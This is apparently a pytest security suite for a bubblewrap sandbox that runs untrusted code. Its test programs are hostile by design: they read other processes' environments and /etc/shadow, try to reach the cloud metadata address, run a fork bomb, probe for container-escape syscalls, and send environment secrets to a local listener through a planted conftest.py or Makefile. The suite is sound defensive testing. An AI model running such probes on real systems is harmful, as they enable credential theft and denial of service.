"""What a hostile program cannot see, reach or leave behind (security catalogue, SB)."""

import asyncio
import os
import socket
import stat
import sys
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from pathlib import Path
from typing import Final

import pytest

from bot.infrastructure import custody
from bot.infrastructure.resilience import POLICIES, Policy
from bot.infrastructure.sandbox import BubblewrapSandbox
from bot.infrastructure.sandbox_groups import Hierarchy, find_hierarchy
from bot.infrastructure.sandbox_room import python_toolchain
from bot.infrastructure.sandbox_seccomp import seccomp_filter
from bot.infrastructure.sandbox_start import Job, started
from bot.records import Outcome, SandboxLimits, StepFailed
from tests.processes import named, sleeping

CANARY = "canary-7f3a9e"
LIMITS = SandboxLimits(seconds=30, memory_mib=256, processes=64, files=1000, disk_mib=32, output_mib=4)


def sandbox_at(
    bwrap: str = "bwrap",
    *,
    hierarchy: Hierarchy | None = None,
    toolchain: Sequence[Path] = python_toolchain(),
) -> BubblewrapSandbox:
    policy = Policy("sandbox", **POLICIES["sandbox"])
    return BubblewrapSandbox(policy=policy, toolchain=toolchain, hierarchy=hierarchy, bwrap=bwrap)


@pytest.fixture
async def copy(tmp_path: Path) -> AsyncIterator[Path]:
    directory = tmp_path / "copy"
    directory.mkdir()
    yield directory
    await custody.remove(directory)


async def run(program: str, copy: Path) -> Outcome:
    """Run this Python inside, held as the machine allows."""
    sandbox = sandbox_at(hierarchy=find_hierarchy())
    return await sandbox.run(["python", "-c", program], directory=copy, limits=LIMITS)


LEAKS = """
import glob, os
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    try: print(open(path, "rb").read())
    except OSError as error: print(path, error.errno)
for path in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root"):
    try: print(path, os.readlink(path))
    except OSError as error: print(path, error.errno)
print(sorted(os.environ))
print("PROCESSES", sum(name.isdigit() for name in os.listdir("/proc")))
"""


async def test_sb_01_no_environment_of_the_service_is_to_be_found(
    copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BOT_SECRET", CANARY)

    outcome = await run(LEAKS, copy)

    assert outcome.status == 0
    assert CANARY not in outcome.output
    assert (
        "['CI', 'HOME', 'LANG', 'PATH', 'PWD', 'PYTHONDONTWRITEBYTECODE', 'PYTHONPATH', 'TMPDIR']"
        in outcome.output
    )
    assert "PROCESSES 2" in outcome.output


OPEN_FILES = """
import os
for descriptor in os.listdir("/proc/self/fd"):
    if os.path.exists(f"/proc/self/fd/{descriptor}") or descriptor in "012":
        print(os.readlink(f"/proc/self/fd/{descriptor}"))
"""


async def test_sb_01_an_open_file_of_the_service_is_not_handed_down(copy: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text(CANARY)
    with secret.open() as file:
        os.set_inheritable(file.fileno(), True)  # noqa: FBT003  the standard library's own
        outcome = await run(OPEN_FILES, copy)

    assert outcome.output.splitlines()[0] == "/dev/null"
    assert "secret" not in outcome.output
    assert len(outcome.output.splitlines()) == 3


HOST_FILES = """
import os
wanted, own = WANTED
for path in wanted:
    try: print("READ", path, open(path, "rb").read(20))
    except IsADirectoryError: print("READ", path, os.listdir(path))
    except OSError: pass
for place in ("/root", "/home", "/var", "/run", "/mnt", "/opt", "/srv", "/boot", "/sys", "/tmp", "/etc"):
    for top, directories, files in os.walk(place):
        directories[:] = [name for name in directories if os.path.join(top, name) not in own]
        for file in files: print("FOUND", os.path.join(top, file))
"""
HOST_PATHS = (
    "/etc/shadow",
    "/etc/hostname",
    "/etc/ssh",
    "/root/.ssh",
    "/root/.bashrc",
    "/var/run/docker.sock",
    "/proc/kcore",
    "/proc/1/root/etc/shadow",
    "/dev/mem",
    "/sys",
    "/var",
    "/run",
)
VISIBLE = {
    "/etc/group",
    "/etc/hosts",
    "/etc/ld.so.cache",
    "/etc/ld.so.conf",
    "/etc/localtime",
    "/etc/mime.types",
    "/etc/nsswitch.conf",
    "/etc/passwd",
    "/etc/ssl/openssl.cnf",
}


async def test_sb_01_no_file_of_the_host_is_to_be_found(copy: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text(CANARY)
    own = [*map(str, python_toolchain()), "/etc/ssl/certs", "/etc/alternatives", "/etc/ld.so.conf.d"]
    program = HOST_FILES.replace("WANTED", repr(([*HOST_PATHS, str(secret)], own)))

    outcome = await run(program, copy)

    assert outcome.status == 0
    assert CANARY not in outcome.output
    assert {line.removeprefix("FOUND ") for line in outcome.output.splitlines()} <= VISIBLE


@pytest.fixture
def sink() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)
        yield server


CONNECTS = """
import os, socket
def attempt(family, kind, address):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(1); s.connect(address); s.send(b"leak")
            print("REACHED", address)
    except OSError as error: print("no", address, error)
port, path, abstract = PLACES
for host in ("127.0.0.1", "169.254.169.254", "1.1.1.1"):
    attempt(socket.AF_INET, socket.SOCK_STREAM, (host, port))
for host in ("169.254.169.254", "1.1.1.1", "255.255.255.255"):
    attempt(socket.AF_INET, socket.SOCK_DGRAM, (host, 53))
attempt(socket.AF_INET6, socket.SOCK_STREAM, ("::1", port))
attempt(socket.AF_INET6, socket.SOCK_DGRAM, ("2606:4700:4700::1111", 53))
attempt(socket.AF_UNIX, socket.SOCK_STREAM, path)
attempt(socket.AF_UNIX, socket.SOCK_STREAM, abstract)
for family in (40, 38, 17, 30):
    try: print("REACHED", family, socket.socket(family, socket.SOCK_STREAM))
    except OSError as error: print("no", family, error)
try: print("REACHED", socket.getaddrinfo("github.com", 443))
except OSError as error: print("no", error)
print("INTERFACES", [name for _, name in socket.if_nameindex()])
"""


async def test_sb_02_nothing_answers_on_any_network(copy: Path, tmp_path: Path, sink: socket.socket) -> None:
    path, abstract = str(tmp_path / "sink.sock"), "\0claude-bot-sink"
    with socket.socket(socket.AF_UNIX) as named, socket.socket(socket.AF_UNIX) as nameless:
        for server, address in ((named, path), (nameless, abstract)):
            server.bind(address)
            server.listen()
            server.settimeout(0)
        places = (sink.getsockname()[1], path, abstract)
        outcome = await run(CONNECTS.replace("PLACES", repr(places)), copy)
        for server in (sink, named, nameless):
            with pytest.raises(BlockingIOError):
                server.accept()

    assert outcome.status == 0
    assert "REACHED" not in outcome.output
    assert "INTERFACES ['lo']" in outcome.output


DOTFILES = (
    ".bashrc",
    ".profile",
    ".gitconfig",
    ".netrc",
    ".npmrc",
    ".ssh/authorized_keys",
    ".config/git/config",
    ".local/lib/python3/site-packages/x.pth",
    ".claude/settings.json",
)
LEFT = "import os; print(os.path.exists('/tmp/sb03'), os.listdir(os.path.expanduser('~')))"
OUTSIDE = ("/tmp/sb03", "/root/sb03", "/dev/shm/sb03", "/sb03")  # noqa: S108  where nothing may be


async def test_sb_03_files_written_outside_the_copy_are_gone_with_the_run(copy: Path) -> None:
    program = f"""
import os
for top in (os.path.expanduser("~"), "/root", "/tmp", "/etc", "/usr/local", "/", "/dev/shm", "/home"):
    for name in {DOTFILES!r}:
        path = os.path.join(top, "sb03", name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write("{CANARY}")
            print("WROTE", top)
        except OSError: pass
"""
    outcome = await run(program, copy)
    again = await run(LEFT, copy)

    written = {line for line in outcome.output.splitlines() if line.startswith("WROTE")}
    assert written == {"WROTE /home/runner", "WROTE /tmp", "WROTE /dev/shm"}
    assert again.output == "False []\n"
    assert not any(map(os.path.exists, OUTSIDE))


async def test_sb_03_the_toolchain_and_the_system_are_read_only(copy: Path) -> None:
    places = [*map(str, python_toolchain()), "/usr", "/usr/lib", "/etc", "/dev", "/proc/sys/kernel"]
    program = f"""
import os
for place in {places!r}:
    try: open(os.path.join(place, "sb03"), "w"); print("WROTE", place)
    except OSError: pass
    try: os.chmod(place, 0o777); print("CHANGED", place)
    except OSError: pass
"""
    outcome = await run(program, copy)

    assert (outcome.status, outcome.output) == (0, "")


FORKS = "import os\nwhile True:\n try: os.fork()\n except OSError: pass"


async def test_sb_04_the_service_goes_on_while_a_fork_bomb_runs(copy: Path) -> None:
    clock = asyncio.get_running_loop().time
    late: list[float] = []

    async def beats() -> None:
        while True:
            due = clock() + 0.01
            await asyncio.sleep(0.01)
            late.append(clock() - due)

    async with asyncio.TaskGroup() as tasks:
        beating = tasks.create_task(beats())
        outcome = await run(FORKS, copy)
        beating.cancel()

    assert outcome.ended == "processes"
    assert sorted(late)[len(late) * 3 // 4] < 0.25


async def test_sb_04_ten_thousand_megabytes_of_output_are_stopped(copy: Path) -> None:
    program = "import sys\nfor _ in range(10_000): sys.stdout.write('x' * (1 << 20))"

    outcome = await run(program, copy)

    assert (outcome.ended, outcome.status) == ("output", None)
    assert len(outcome.output) < 1_100_000


SIZES = """
import os
for place in ("/tmp/", "/dev/shm/", "/home/runner/"):
    found = os.statvfs(place)
    print(found.f_blocks * found.f_frsize >> 20)
"""
SCRATCH = """
import time
for number in range(2):
    for place in ("/tmp/", "/dev/shm/", "/home/runner/"):
        with open(f"{place}{number}", "wb") as file: file.write(bytes(10 << 20))
time.sleep(1000)
"""
WITHOUT_GROUPS = pytest.mark.parametrize("hierarchy", [find_hierarchy(), None], ids=["groups", "user limits"])


async def test_sb_04_no_scratch_directory_is_larger_than_memory(copy: Path) -> None:
    outcome = await run(SIZES, copy)

    assert outcome.output.split() == ["256"] * 3


@WITHOUT_GROUPS
async def test_sb_04_scratch_directories_count_as_memory(copy: Path, hierarchy: Hierarchy | None) -> None:
    limits = SandboxLimits(seconds=20, memory_mib=48, processes=32)

    outcome = await sandbox_at(hierarchy=hierarchy).run(
        ["python", "-c", SCRATCH], directory=copy, limits=limits
    )

    assert outcome.ended == "memory"


DAEMONS = """
import os, signal, sys, time
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP): signal.signal(number, signal.SIG_IGN)
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "SECONDS"])
        os._exit(0)
END
"""


@pytest.mark.parametrize(
    ("end", "within", "ended"), [("time.sleep(1000)", 2, "timeout"), ("time.sleep(0.2)", 30, "exited")]
)
async def test_sb_05_nothing_outlives_a_run(copy: Path, end: str, within: int, ended: str) -> None:
    sandbox = sandbox_at(hierarchy=find_hierarchy())
    limits = SandboxLimits(seconds=within, memory_mib=256, processes=64)

    seconds = sleeping()
    program = DAEMONS.replace("END", end).replace("SECONDS", seconds)
    outcome = await sandbox.run(["python", "-c", program], directory=copy, limits=limits)

    assert outcome.ended == ended
    assert named(seconds) == []


async def test_sb_05_a_killed_service_takes_its_runs_with_it(copy: Path) -> None:
    seconds = sleeping()
    program = f"""
import asyncio, sys
from pathlib import Path
from bot.infrastructure.sandbox_groups import find_hierarchy
from tests.security.test_sandbox import LIMITS, sandbox_at
argv = ["sh", "-c", "touch started; exec sleep {seconds}"]
asyncio.run(sandbox_at(hierarchy=find_hierarchy()).run(argv, directory=Path({str(copy)!r}), limits=LIMITS))
"""
    service = await asyncio.create_subprocess_exec(sys.executable, "-c", program)
    await until(lambda: "started" in names(copy))
    assert named(seconds) != []

    service.kill()
    await service.wait()
    await until(lambda: named(f"sleep\0{seconds}") == [])
    await sandbox_at(hierarchy=find_hierarchy()).sweep()

    assert not groups_of(service.pid)


async def until(happened: Callable[[], bool]) -> None:
    async with asyncio.timeout(20):
        while not happened():  # noqa: ASYNC110  another process tells nobody
            await asyncio.sleep(0.01)


def names(directory: Path) -> list[str]:
    return sorted(path.name for path in directory.iterdir())


def groups_of(process: int) -> list[Path]:
    hierarchy = find_hierarchy()
    parents = {hierarchy.memory, hierarchy.pids} if hierarchy else set()
    return [group for parent in parents for group in parent.glob(f"claude-bot-sandbox-{process}-*")]


@pytest.mark.parametrize("bwrap", ["/nonexistent/bwrap", "/bin/false", "/bin/true", "/etc/passwd"])
async def test_sb_06_without_a_working_runtime_nothing_runs(copy: Path, bwrap: str) -> None:
    sandbox = sandbox_at(bwrap, hierarchy=find_hierarchy())

    with pytest.raises(StepFailed, match="sandbox_unavailable"):
        await sandbox.run(["touch", "ran"], directory=copy, limits=LIMITS)

    assert names(copy) == []
    assert groups_of(os.getpid()) == []


async def test_sb_06_the_check_says_why(tmp_path: Path) -> None:
    broken = tmp_path / "bwrap"
    broken.write_text("#!/bin/sh\necho 'no permission to make namespaces' >&2\nexit 1\n")
    broken.chmod(broken.stat().st_mode | stat.S_IXUSR)

    assert await sandbox_at("/nonexistent/bwrap").check() == "/nonexistent/bwrap is not installed"
    assert await sandbox_at(str(broken)).check() == "no permission to make namespaces"


async def test_sb_06_without_its_control_groups_nothing_runs(copy: Path, tmp_path: Path) -> None:
    gone = Hierarchy(memory=tmp_path / "gone", pids=tmp_path / "gone", unified=True)

    with pytest.raises(StepFailed, match="sandbox_unavailable"):
        await sandbox_at(hierarchy=gone).run(["touch", "ran"], directory=copy, limits=LIMITS)

    assert names(copy) == []


async def test_sb_06_a_working_copy_that_is_gone_runs_nothing(tmp_path: Path) -> None:
    with pytest.raises(StepFailed, match="sandbox_unavailable"):
        await sandbox_at().run(["true"], directory=tmp_path / "gone", limits=LIMITS)


async def test_sb_06_a_room_that_cannot_be_furnished_runs_nothing(copy: Path, tmp_path: Path) -> None:
    policy = Policy("sandbox", **POLICIES["sandbox"])
    sandbox = BubblewrapSandbox(policy=policy, toolchain=[tmp_path / "gone"])

    with pytest.raises(StepFailed, match="sandbox_unavailable"):
        await sandbox.run(["touch", "ran"], directory=copy, limits=LIMITS)

    assert names(copy) == []


async def test_sb_06_a_program_whose_starter_died_before_it_was_held_never_runs(copy: Path) -> None:
    custody.give(copy, user=60578)
    job = Job(argv=["touch", "ran"], directory=copy, user=60578, toolchain=(), memory_bytes=1 << 24)

    async with started(job, bwrap="bwrap") as blocked:
        blocked.go.close()
        await blocked.process.wait()

    assert names(copy) == []


def test_sb_06_a_machine_without_a_system_call_filter_is_not_guessed_at() -> None:
    assert seccomp_filter("vax") is None
    assert seccomp_filter("aarch64") != seccomp_filter("x86_64")


POWERS = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def can(name, *call):
    ctypes.set_errno(0)
    if libc.syscall(*call) >= 0: print("CAN", name)
calls = {
    "unshare user": (272, 0x10000000), "unshare net": (272, 0x40000000), "unshare mount": (272, 0x20000),
    "clone user": (56, 0x10000000 | 17, 0, 0, 0, 0), "clone3": (435, 0, 0), "setns": (308, 0, 0),
    "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "umount": (166, b"/tmp", 2),
    "pivot_root": (155, b"/tmp", b"/tmp"), "chroot": (161, b"/tmp"), "ptrace": (101, 0, 0, 0, 0),
    "keyctl": (250, 0, -3, 1), "add_key": (248, b"user", b"x", b"y", 1, -3), "bpf": (321, 0, 0, 0),
    "io_uring": (425, 8, b"\\0" * 120), "perf": (298, b"\\0" * 120, 0, -1, -1, 0), "userfaultfd": (323, 1),
    "vsock": (41, 40, 1, 0), "raw": (41, 2, 3, 1), "packet": (41, 17, 3, 0), "alg": (41, 38, 5, 0),
    "open_tree": (428, -100, b"/", 1), "fsopen": (430, b"tmpfs", 0), "x32": (0x40000000 | 39,),
    "setuid": (105, 0), "mknod": (133, b"/tmp/null", 0o20666, 0x103), "swapon": (167, b"/tmp/x", 0),
}
for name, call in calls.items(): can(name, *call)
for line in open("/proc/self/status"):
    if line.startswith(("Cap", "NoNewPrivs", "Seccomp:")): print(line.split()[0], line.split()[1].lstrip("0"))
print("IDS", 0 in os.getresuid() + os.getresgid(), os.getgroups())
for path in ("/var/run/docker.sock", "/run", "/sys", "/dev/kvm", "/dev/fuse", "/dev/vda", "/dev/sda"):
    if os.path.exists(path): print("CAN see", path)
"""


async def test_sb_07_the_list_of_what_a_program_can_do_is_empty(copy: Path) -> None:
    outcome = await run(POWERS, copy)

    said = outcome.output.splitlines()
    assert outcome.status == 0
    assert [line for line in said if line.startswith("CAN")] == []
    assert [line.strip() for line in said if line.startswith("Cap")] == [
        "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:",
    ]  # fmt: skip
    assert {"NoNewPrivs: 1", "Seccomp: 2"} <= set(said)


async def test_sb_07_threads_and_processes_still_work(copy: Path) -> None:
    program = """
import multiprocessing, socket, subprocess, threading
thread = threading.Thread(target=print, args=["thread"]); thread.start(); thread.join()
print(subprocess.run(["echo", "child"], capture_output=True, text=True).stdout, end="")
with multiprocessing.Pool(2) as pool: print(pool.map(abs, [-1, -2]))
server = socket.create_server(("127.0.0.1", 0)); client = socket.create_connection(server.getsockname())
client.send(b"loopback"); print(server.accept()[0].recv(20).decode())
"""
    outcome = await run(program, copy)

    assert outcome.output == "thread\nchild\n[1, 2]\nloopback\n"


REACHING: Final = """import os, socket, pathlib
found = []
for each in pathlib.Path("/proc").glob("*/environ"):
    try:
        found += [str(each)] if b"%s" in each.read_bytes() else []
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", %d), timeout=1).sendall(repr(os.environ).encode())
    found.append("REACHED")
except OSError:
    pass
print("RAN", "%s", found)
"""
# What else than its code decides what is run when a repository is tested; `{}` is Python.
CONFIGURED: Final = {
    "conftest.py": ("python -m pytest -q -s", "{}"),
    "setup.py": ("python setup.py", "{}"),
    "sitecustomize.py": ("python -c ''", "{}"),
    "Makefile": ("make test || sh -c \"$(sed -n 's/^\\t//p' Makefile)\"", "test:\n\tpython evil.py\n"),
    "pytest.ini": ("python -m pytest -q -s", "[pytest]\naddopts = -p evil\n"),
    "evil.py": ("python evil.py", "{}"),
}


@pytest.mark.parametrize("name", CONFIGURED)
async def test_rc_01_a_configuration_that_is_code_reaches_nothing(
    name: str, copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BOT_SECRET", CANARY)
    command, content = CONFIGURED[name]
    with socket.create_server(("127.0.0.1", 0)) as sink:
        evil = REACHING % (CANARY, sink.getsockname()[1], name)
        (copy / "evil.py").write_text(evil)
        (copy / name).write_text(content.replace("{}", evil))
        sandbox = sandbox_at(hierarchy=find_hierarchy())

        outcome = await sandbox.run(["bash", "-c", command], directory=copy, limits=LIMITS)

        sink.setblocking(False)  # noqa: FBT003  the library's way
        with pytest.raises(BlockingIOError):
            sink.accept()
    assert f"RAN {name} []" in outcome.output
